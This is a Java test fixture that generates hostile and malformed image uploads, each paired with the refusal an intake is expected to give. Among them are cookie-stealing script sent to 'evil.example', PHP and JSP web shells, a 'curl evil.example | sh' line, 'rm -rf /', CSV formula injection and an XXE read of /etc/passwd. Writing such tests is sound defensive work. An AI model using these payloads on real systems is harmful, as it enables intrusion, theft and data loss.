package io.trustmark.document.domain;

import io.trustmark.document.domain.DocumentRefusedException.Reason;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Hostile and malformed uploads, generated: pixel floods, truncated and corrupted JPEGs and PNGs,
 * polyglots, SVG with script, other formats, empty files, huge metadata, wrong names and Content-Types,
 * and photos too poor to read. Each comes with the refusals that are acceptable for it. Used by the unit
 * test against the intake itself and by the integration test through the real upload page.
 */
public final class HostileCorpus {

    /** One upload: what the browser would claim about it, its bytes, and how it may be refused. */
    public record Item(String name, String fileName, String contentType, byte[] bytes, Set<Reason> refusals) {
        @Override
        public String toString() {
            return name + " (" + fileName + ", " + contentType + ", " + bytes.length + " bytes)";
        }
    }

    private final List<Item> items = new ArrayList<>();

    private HostileCorpus() {}

    public static List<Item> items() {
        HostileCorpus corpus = new HostileCorpus();
        corpus.build();
        return List.copyOf(corpus.items);
    }

    private void add(String name, String fileName, String contentType, byte[] bytes, Reason first, Reason... more) {
        items.add(new Item(name, fileName, contentType, bytes, EnumSet.of(first, more)));
    }

    private void build() {
        BufferedImage photo = SyntheticPhotos.cardPhoto(900, 570, "1 1017 00000 12 3", 11);
        byte[] jpeg = SyntheticPhotos.jpeg(photo, 0.85f);
        byte[] png = SyntheticPhotos.png(photo);

        // Pixel floods: tiny files whose headers claim huge canvases.
        int[][] floods = {
            {100_000, 100_000}, {65_535, 65_535}, {10_001, 600}, {600, 10_001}, {9_000, 9_000}, {40_000, 1_001},
            {1_001, 40_000}, {20_000, 20_000}, {50_000, 900}, {7_000, 6_000}, {0x7FFF_FFFF, 1}, {1, 0x7FFF_FFFF}
        };
        for (int[] size : floods) {
            add(
                    "PNG flood " + size[0] + "x" + size[1],
                    "card.png",
                    "image/png",
                    pngClaiming(size[0], size[1]),
                    Reason.TOO_MANY_PIXELS,
                    Reason.DAMAGED);
        }
        int[][] jpegFloods = {
            {65_000, 65_000},
            {60_000, 1_000},
            {1_000, 60_000},
            {30_000, 30_000},
            {10_001, 1_000},
            {7_000, 7_000},
            {12_000, 4_000},
            {4_000, 12_000}
        };
        for (int[] size : jpegFloods) {
            add(
                    "JPEG flood " + size[0] + "x" + size[1],
                    "card.jpg",
                    "image/jpeg",
                    jpegClaiming(jpeg, size[0], size[1]),
                    Reason.TOO_MANY_PIXELS,
                    Reason.DAMAGED);
        }

        // Truncated files, cut at thirty places from the first bytes to just before the end.
        for (int i = 0; i < 30; i++) {
            int cut = i < 5 ? i + 1 : (int) ((long) jpeg.length * i / 30);
            add(
                    "JPEG cut at " + cut,
                    "card.jpg",
                    "image/jpeg",
                    Arrays.copyOf(jpeg, cut),
                    Reason.DAMAGED,
                    Reason.NOT_AN_IMAGE);
        }
        for (int i = 0; i < 30; i++) {
            int cut = i < 5 ? i + 2 : (int) ((long) png.length * i / 30);
            add(
                    "PNG cut at " + cut,
                    "card.png",
                    "image/png",
                    Arrays.copyOf(png, cut),
                    Reason.DAMAGED,
                    Reason.NOT_AN_IMAGE);
        }

        // Corrupted JPEGs: segment lengths that lie, and markers in the middle of the image data.
        List<Integer> segments = segmentOffsets(jpeg);
        for (int offset : segments) {
            byte[] overrun = jpeg.clone();
            overrun[offset + 2] = (byte) 0xFF;
            overrun[offset + 3] = (byte) 0xFF;
            add(
                    "JPEG segment at " + offset + " claiming 65535 bytes",
                    "card.jpg",
                    "image/jpeg",
                    overrun,
                    Reason.DAMAGED);
            byte[] tooShort = jpeg.clone();
            tooShort[offset + 2] = 0;
            tooShort[offset + 3] = 1;
            add("JPEG segment at " + offset + " claiming 1 byte", "card.jpg", "image/jpeg", tooShort, Reason.DAMAGED);
        }
        int scan = segments.get(segments.size() - 1) + 20;
        for (int i = 1; i <= 12; i++) {
            int at = scan + (jpeg.length - scan) * i / 14;
            byte[] early = concat(
                    Arrays.copyOf(jpeg, at),
                    new byte[] {(byte) 0xFF, (byte) 0xD9},
                    Arrays.copyOfRange(jpeg, at, jpeg.length));
            add(
                    "JPEG with an EOI inside the image data at " + at,
                    "card.jpg",
                    "image/jpeg",
                    early,
                    Reason.DAMAGED,
                    Reason.TRAILING_DATA);
        }
        for (int i = 1; i <= 6; i++) {
            int at = scan + (jpeg.length - scan) * i / 8;
            byte[] marker = concat(
                    Arrays.copyOf(jpeg, at),
                    new byte[] {(byte) 0xFF, (byte) 0xC0, 0, 2},
                    Arrays.copyOfRange(jpeg, at, jpeg.length));
            add(
                    "JPEG with a stray SOF inside the image data at " + at,
                    "card.jpg",
                    "image/jpeg",
                    marker,
                    Reason.DAMAGED,
                    Reason.TRAILING_DATA);
        }
        byte[] noMarker = jpeg.clone();
        noMarker[2] = 0x12;
        add("JPEG without a marker after SOI", "card.jpg", "image/jpeg", noMarker, Reason.DAMAGED);

        // Corrupted PNGs: one byte changed in each of twenty places; every chunk carries a CRC.
        for (int i = 0; i < 20; i++) {
            int at = 12 + (png.length - 13) * i / 20;
            byte[] flipped = png.clone();
            flipped[at] ^= 0x5A;
            add(
                    "PNG with byte " + at + " changed",
                    "card.png",
                    "image/png",
                    flipped,
                    Reason.DAMAGED,
                    Reason.TOO_MANY_PIXELS,
                    Reason.TOO_SMALL);
        }

        // Polyglots: something else riding after the end of the image, or an image after something else.
        String[] payloads = {
            "<html><body><script>alert(document.cookie)</script></body></html>",
            "<?php system($_GET['c']); ?>",
            "<svg onload=alert(1)>",
            "#!/bin/sh\nrm -rf /\n",
            "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"
        };
        String[][] names = {
            {"card.jpg", "image/jpeg"},
            {"card.html", "text/html"},
            {"card.php.jpg", "image/jpeg"},
            {"card.jpg.html", "image/jpeg"},
            {"card.jsp", "application/octet-stream"}
        };
        for (int i = 0; i < payloads.length; i++) {
            add(
                    "JPEG+" + payloads[i].substring(0, 5),
                    names[i][0],
                    names[i][1],
                    concat(jpeg, payloads[i].getBytes(StandardCharsets.UTF_8)),
                    Reason.TRAILING_DATA);
            add(
                    payloads[i].substring(0, 5) + "+JPEG",
                    names[i][0],
                    names[i][1],
                    concat(payloads[i].getBytes(StandardCharsets.UTF_8), jpeg),
                    Reason.NOT_AN_IMAGE,
                    Reason.SVG);
        }
        byte[] zip = zip();
        add("PNG+ZIP", "card.png", "image/png", concat(png, zip), Reason.TRAILING_DATA);
        add("PNG+ZIP named .zip", "card.zip", "application/zip", concat(png, zip), Reason.TRAILING_DATA);
        add("JPEG+ZIP", "card.jpg", "image/jpeg", concat(jpeg, zip), Reason.TRAILING_DATA);
        add("ZIP+JPEG", "card.jpg", "image/jpeg", concat(zip, jpeg), Reason.NOT_AN_IMAGE);
        add("JPEG+PNG", "card.jpg", "image/jpeg", concat(jpeg, png), Reason.TRAILING_DATA);
        add("PNG+JPEG", "card.png", "image/png", concat(png, jpeg), Reason.TRAILING_DATA);
        add(
                "PDF with a JPEG inside",
                "card.pdf",
                "application/pdf",
                concat(
                        "%PDF-1.7\n1 0 obj <</Type/XObject/Subtype/Image>> stream\n"
                                .getBytes(StandardCharsets.US_ASCII),
                        jpeg),
                Reason.NOT_AN_IMAGE);
        add(
                "GIF+JAR",
                "card.gif",
                "image/gif",
                concat(SyntheticPhotos.encode(small(), "gif"), zip),
                Reason.UNSUPPORTED_FORMAT);

        // SVG, always refused, however it is dressed.
        String svg =
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1000\" height=\"630\"><script>alert(document.cookie)</script>"
                        + "<rect width=\"1000\" height=\"630\" fill=\"#e8f0f8\"/></svg>";
        add("SVG with script", "card.svg", "image/svg+xml", svg.getBytes(StandardCharsets.UTF_8), Reason.SVG);
        add("SVG named .jpg", "card.jpg", "image/jpeg", svg.getBytes(StandardCharsets.UTF_8), Reason.SVG);
        add(
                "SVG with an XML prolog",
                "card.png",
                "image/png",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE svg>\n" + svg).getBytes(StandardCharsets.UTF_8),
                Reason.SVG);
        add(
                "SVG behind a UTF-8 BOM",
                "card.svg",
                "image/svg+xml",
                concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, svg.getBytes(StandardCharsets.UTF_8)),
                Reason.SVG);
        add(
                "SVG in UTF-16",
                "card.svg",
                "image/svg+xml",
                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, svg.getBytes(StandardCharsets.UTF_16LE)),
                Reason.SVG);
        add(
                "SVG in upper case",
                "card.svg",
                "image/svg+xml",
                svg.toUpperCase().getBytes(StandardCharsets.UTF_8),
                Reason.SVG);
        add(
                "SVG with onload",
                "card.svg",
                "image/svg+xml",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//evil.example/'+document.cookie)\"/>"
                        .getBytes(StandardCharsets.UTF_8),
                Reason.SVG);
        add(
                "SVG with foreignObject",
                "card.svg",
                "text/xml",
                ("<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe xmlns="
                                + "\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject></svg>")
                        .getBytes(StandardCharsets.UTF_8),
                Reason.SVG);
        add(
                "SVG after whitespace",
                "card.svg",
                "image/svg+xml",
                ("\n\n   \t" + svg).getBytes(StandardCharsets.UTF_8),
                Reason.SVG);
        add("SVGZ", "card.svgz", "image/svg+xml", gzip(svg.getBytes(StandardCharsets.UTF_8)), Reason.NOT_AN_IMAGE);

        // Other image formats.
        for (String format : List.of("gif", "bmp", "tiff", "wbmp")) {
            BufferedImage image = format.equals("wbmp") ? binary(small()) : small();
            add(
                    format.toUpperCase() + " as itself",
                    "card." + format,
                    "image/" + format,
                    SyntheticPhotos.encode(image, format),
                    Reason.UNSUPPORTED_FORMAT,
                    Reason.NOT_AN_IMAGE);
            add(
                    format.toUpperCase() + " named .jpg",
                    "card.jpg",
                    "image/jpeg",
                    SyntheticPhotos.encode(image, format),
                    Reason.UNSUPPORTED_FORMAT,
                    Reason.NOT_AN_IMAGE);
            add(
                    format.toUpperCase() + " named .png",
                    "card.png",
                    "image/png",
                    SyntheticPhotos.encode(image, format),
                    Reason.UNSUPPORTED_FORMAT,
                    Reason.NOT_AN_IMAGE);
        }
        add(
                "WebP signature",
                "card.webp",
                "image/webp",
                concat(
                        "RIFF".getBytes(StandardCharsets.US_ASCII),
                        new byte[] {64, 0, 0, 0},
                        "WEBPVP8 ".getBytes(StandardCharsets.US_ASCII),
                        new byte[64]),
                Reason.UNSUPPORTED_FORMAT);
        add(
                "HEIC signature",
                "IMG_0001.HEIC",
                "image/heic",
                concat(
                        new byte[] {0, 0, 0, 24},
                        "ftypheic".getBytes(StandardCharsets.US_ASCII),
                        new byte[] {0, 0, 0, 0},
                        "mif1heic".getBytes(StandardCharsets.US_ASCII),
                        new byte[64]),
                Reason.UNSUPPORTED_FORMAT);
        add(
                "AVIF signature",
                "card.avif",
                "image/avif",
                concat(new byte[] {0, 0, 0, 28}, "ftypavif".getBytes(StandardCharsets.US_ASCII), new byte[64]),
                Reason.UNSUPPORTED_FORMAT);
        add(
                "ICO",
                "favicon.ico",
                "image/x-icon",
                concat(new byte[] {0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0}, new byte[64]),
                Reason.UNSUPPORTED_FORMAT,
                Reason.NOT_AN_IMAGE);
        add(
                "PSD",
                "card.psd",
                "image/vnd.adobe.photoshop",
                concat("8BPS".getBytes(StandardCharsets.US_ASCII), new byte[64]),
                Reason.UNSUPPORTED_FORMAT,
                Reason.NOT_AN_IMAGE);

        // Nothing at all, or nothing like a picture.
        add("empty .jpg", "card.jpg", "image/jpeg", new byte[0], Reason.EMPTY);
        add("empty .png", "card.png", "image/png", new byte[0], Reason.EMPTY);
        add("empty .heic", "IMG_0002.HEIC", "application/octet-stream", new byte[0], Reason.EMPTY);
        add("one zero byte", "card.jpg", "image/jpeg", new byte[1], Reason.NOT_AN_IMAGE);
        add("a kilobyte of zeros", "card.jpg", "image/jpeg", new byte[1024], Reason.NOT_AN_IMAGE);
        add(
                "0xFF 0xD8 only",
                "card.jpg",
                "image/jpeg",
                new byte[] {(byte) 0xFF, (byte) 0xD8},
                Reason.DAMAGED,
                Reason.NOT_AN_IMAGE);
        add("PNG signature only", "card.png", "image/png", Arrays.copyOf(png, 8), Reason.DAMAGED, Reason.NOT_AN_IMAGE);

        // Huge metadata: segments and chunks far beyond what a camera writes, and ones that lie about their length.
        add(
                "JPEG with 5 MB of APP1 segments",
                "card.jpg",
                "image/jpeg",
                withSegments(jpeg, 0xE1, 80),
                Reason.METADATA_TOO_LARGE);
        add(
                "JPEG with 5 MB of comments",
                "card.jpg",
                "image/jpeg",
                withSegments(jpeg, 0xFE, 80),
                Reason.METADATA_TOO_LARGE);
        add(
                "JPEG with 5 MB of APP2 (ICC) segments",
                "card.jpg",
                "image/jpeg",
                withSegments(jpeg, 0xE2, 80),
                Reason.METADATA_TOO_LARGE);
        add(
                "JPEG with 12 MB of APP13 (IPTC) segments",
                "card.jpg",
                "image/jpeg",
                withSegments(jpeg, 0xED, 190),
                Reason.TOO_LARGE);
        add(
                "PNG with a 5 MB text chunk",
                "card.png",
                "image/png",
                withChunk(png, "tEXt", 5 << 20),
                Reason.METADATA_TOO_LARGE);
        add(
                "PNG with a 5 MB private chunk",
                "card.png",
                "image/png",
                withChunk(png, "prVt", 5 << 20),
                Reason.METADATA_TOO_LARGE);
        add(
                "PNG with a 5 MB iCCP chunk",
                "card.png",
                "image/png",
                withChunk(png, "iCCP", 5 << 20),
                Reason.METADATA_TOO_LARGE);
        add("PNG with a chunk claiming 2 GB", "card.png", "image/png", lyingChunk(png), Reason.DAMAGED);
        add("file of 11 MB", "card.jpg", "image/jpeg", concat(jpeg, new byte[11 << 20]), Reason.TOO_LARGE);
        add(
                "file of 10 MB plus one byte",
                "card.png",
                "image/png",
                concat(png, new byte[(10 << 20) + 1 - png.length]),
                Reason.TOO_LARGE);

        // Not images at all, under image names and types.
        String[][] impostors = {
            {"text", "card.jpg", "image/jpeg", "Hello, this is a text file with a .jpg name.\n"},
            {"HTML", "card.png", "image/png", "<!DOCTYPE html><html><body onload=alert(1)></body></html>"},
            {"JavaScript", "card.jpg", "image/jpeg", "fetch('//evil.example/?c='+document.cookie)"},
            {"PHP", "card.php.png", "image/png", "<?php echo shell_exec($_GET['c']); ?>"},
            {
                "JSP",
                "card.jsp.jpg",
                "image/jpeg",
                "<%= new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).next() %>"
            },
            {"shell script", "card.jpg", "image/jpeg", "#!/bin/sh\ncurl evil.example | sh\n"},
            {"CSV", "card.jpg", "text/csv", "=cmd|'/C calc'!A0,1,2\n"},
            {"JSON", "card.png", "application/json", "{\"card\":\"1 1017 00000 12 3\"}"},
            {
                "XML without SVG",
                "card.jpg",
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"
            },
            {"RTF", "card.jpg", "image/jpeg", "{\\rtf1\\ansi hello}"},
        };
        for (String[] impostor : impostors) {
            add(
                    impostor[0] + " as " + impostor[1],
                    impostor[1],
                    impostor[2],
                    impostor[3].getBytes(StandardCharsets.UTF_8),
                    Reason.NOT_AN_IMAGE);
        }
        add(
                "Windows executable",
                "card.jpg",
                "image/jpeg",
                concat("MZ".getBytes(StandardCharsets.US_ASCII), new byte[510]),
                Reason.NOT_AN_IMAGE);
        add(
                "ELF executable",
                "card.png",
                "image/png",
                concat(new byte[] {0x7F, 'E', 'L', 'F'}, new byte[508]),
                Reason.NOT_AN_IMAGE);
        add("ZIP", "card.jpg", "image/jpeg", zip, Reason.NOT_AN_IMAGE);
        add("gzip", "card.jpg", "image/jpeg", gzip(jpeg), Reason.NOT_AN_IMAGE);
        add(
                "PDF",
                "card.pdf",
                "application/pdf",
                "%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n".getBytes(StandardCharsets.ISO_8859_1),
                Reason.NOT_AN_IMAGE);

        // Real pictures that are no use to a reviewer.
        add(
                "photo too small to read",
                "card.jpg",
                "image/jpeg",
                SyntheticPhotos.jpeg(SyntheticPhotos.cardPhoto(500, 320, "1", 2), 0.9f),
                Reason.TOO_SMALL);
        add(
                "thumbnail",
                "card.png",
                "image/png",
                SyntheticPhotos.png(SyntheticPhotos.cardPhoto(160, 100, "1", 3)),
                Reason.TOO_SMALL);
        add(
                "blurry photo",
                "card.jpg",
                "image/jpeg",
                SyntheticPhotos.jpeg(SyntheticPhotos.blurred(photo, 3.5), 0.9f),
                Reason.BLURRY);
        add(
                "dark photo",
                "card.jpg",
                "image/jpeg",
                SyntheticPhotos.jpeg(SyntheticPhotos.exposed(photo, 0.22, 0), 0.9f),
                Reason.TOO_DARK);
        add(
                "washed-out photo",
                "card.jpg",
                "image/jpeg",
                SyntheticPhotos.jpeg(SyntheticPhotos.exposed(photo, 0.35, 180), 0.9f),
                Reason.OVEREXPOSED);
    }

    /** A well-formed PNG (every CRC right) whose IHDR claims {@code width} x {@code height} pixels. */
    static byte[] pngClaiming(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        out.writeBytes(chunk(
                "IHDR",
                ByteBuffer.allocate(13)
                        .putInt(width)
                        .putInt(height)
                        .put(new byte[] {8, 2, 0, 0, 0})
                        .array()));
        Deflater deflater = new Deflater(9);
        deflater.setInput(new byte[1 << 16]);
        deflater.finish();
        byte[] buffer = new byte[1024];
        int length = deflater.deflate(buffer);
        deflater.end();
        out.writeBytes(chunk("IDAT", Arrays.copyOf(buffer, length)));
        out.writeBytes(chunk("IEND", new byte[0]));
        return out.toByteArray();
    }

    /** The JPEG with the dimensions in its SOF segment replaced. */
    private static byte[] jpegClaiming(byte[] jpeg, int width, int height) {
        byte[] out = jpeg.clone();
        for (int offset : segmentOffsets(jpeg)) {
            if ((jpeg[offset + 1] & 0xFF) == 0xC0 || (jpeg[offset + 1] & 0xFF) == 0xC2) {
                out[offset + 5] = (byte) (height >> 8);
                out[offset + 6] = (byte) height;
                out[offset + 7] = (byte) (width >> 8);
                out[offset + 8] = (byte) width;
                return out;
            }
        }
        throw new IllegalStateException("no SOF");
    }

    /** Offsets of the 0xFF of every segment before the first scan's data, SOS included. */
    private static List<Integer> segmentOffsets(byte[] jpeg) {
        List<Integer> offsets = new ArrayList<>();
        int pos = 2;
        while (pos + 4 <= jpeg.length && (jpeg[pos] & 0xFF) == 0xFF) {
            offsets.add(pos);
            int marker = jpeg[pos + 1] & 0xFF;
            int length = ((jpeg[pos + 2] & 0xFF) << 8) | (jpeg[pos + 3] & 0xFF);
            if (marker == 0xDA) {
                break;
            }
            pos += 2 + length;
        }
        return offsets;
    }

    /** {@code count} segments of 65533 payload bytes each, inserted right after SOI. */
    private static byte[] withSegments(byte[] jpeg, int marker, int count) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0xFF);
        out.write(0xD8);
        byte[] payload = new byte[65_533];
        Arrays.fill(payload, (byte) 'A');
        for (int i = 0; i < count; i++) {
            out.writeBytes(new byte[] {(byte) 0xFF, (byte) marker, (byte) 0xFF, (byte) 0xFF});
            out.writeBytes(payload);
        }
        out.write(jpeg, 2, jpeg.length - 2);
        return out.toByteArray();
    }

    private static byte[] withChunk(byte[] png, String type, int size) {
        byte[] data = new byte[size];
        Arrays.fill(data, (byte) 'A');
        // After the signature (8 bytes) and IHDR (25 bytes), where ancillary chunks may go.
        return concat(Arrays.copyOf(png, 33), chunk(type, data), Arrays.copyOfRange(png, 33, png.length));
    }

    private static byte[] lyingChunk(byte[] png) {
        byte[] header = ByteBuffer.allocate(8)
                .putInt(0x7FFF_FFF0)
                .put("tEXt".getBytes(StandardCharsets.US_ASCII))
                .array();
        return concat(Arrays.copyOf(png, 33), header, new byte[100], Arrays.copyOfRange(png, 33, png.length));
    }

    private static byte[] chunk(String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length)
                .putInt(data.length)
                .put(typeBytes)
                .put(data)
                .putInt((int) crc.getValue())
                .array();
    }

    private static BufferedImage small() {
        BufferedImage image = new BufferedImage(800, 500, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(0xE8F0F8));
        g.fillRect(0, 0, 800, 500);
        g.setColor(Color.DARK_GRAY);
        g.drawString("1 1017 00000 12 3", 100, 200);
        g.dispose();
        return image;
    }

    private static BufferedImage binary(BufferedImage image) {
        BufferedImage out = new BufferedImage(image.getWidth(), image.getHeight(), BufferedImage.TYPE_BYTE_BINARY);
        out.getGraphics().drawImage(image, 0, 0, null);
        return out;
    }

    private static byte[] zip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("shell.jsp"));
            zip.write("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"
                    .getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
